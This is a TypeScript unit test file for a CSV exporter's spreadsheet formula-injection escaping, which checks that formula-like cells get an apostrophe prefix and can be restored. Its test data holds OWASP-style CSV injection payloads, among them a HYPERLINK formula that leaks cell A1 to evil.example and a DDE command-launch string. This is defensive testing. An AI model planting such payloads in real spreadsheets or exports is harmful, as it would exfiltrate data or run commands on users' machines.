import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import { csvText, escapeFormulaText, restoreFormulaText } from '../../src/export/csv/index.ts';

/** Texts a spreadsheet program would run as formulas, as OWASP "CSV Injection" lists them. */
const FORMULAS = ['=HYPERLINK("http://evil.example/x?"&A1,"Click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+2', '\r=1+2', '\uFF1D1+2'];

describe('spreadsheet-safe CSV', () => {
  it('escapeFormulaText puts a leading apostrophe before every text that could start a formula', () => {
    for (const text of FORMULAS) assert.equal(escapeFormulaText(text), `'${text}`, JSON.stringify(text));
  });

  it('escapeFormulaText leaves numbers, plain decimal numbers as text, empty cells and ordinary text alone', () => {
    for (const cell of [-5, 27.3, '-5', '+1.5e3', '-0.25', '', null, undefined, 'Estimate, "UN IGME"', '2019/20', 'E-mail', "'quoted"]) {
      assert.equal(escapeFormulaText(cell), cell, JSON.stringify(cell));
    }
  });

  it('restoreFormulaText gives back every text escapeFormulaText was given, apostrophes included', () => {
    for (const text of [...FORMULAS, "'=already quoted", "''-x", "'quoted", '-5', 'plain', '']) {
      assert.equal(restoreFormulaText(String(escapeFormulaText(text))), text, JSON.stringify(text));
    }
  });

  it('csvText writes a formula footnote with its apostrophe and a negative value as a number', () => {
    const csv = csvText([['COMMENT_OBS', 'OBS_VALUE'], ['=HYPERLINK("http://evil.example/x?"&A1,"Click")', -5], ['Estimate', 27.3]]);
    assert.equal(csv, 'COMMENT_OBS,OBS_VALUE\n"\'=HYPERLINK(""http://evil.example/x?""&A1,""Click"")",-5\nEstimate,27.3\n');
    assert.deepEqual(parse(csv), [['COMMENT_OBS', 'OBS_VALUE'], ['\'=HYPERLINK("http://evil.example/x?"&A1,"Click")', '-5'], ['Estimate', '27.3']]);
  });

  it('csvText ends records with CRLF when asked for windows line ends', () => {
    assert.equal(csvText([['a', 'b'], ['@x', 1]], { recordDelimiter: 'windows' }), "a,b\r\n'@x,1\r\n");
  });
});
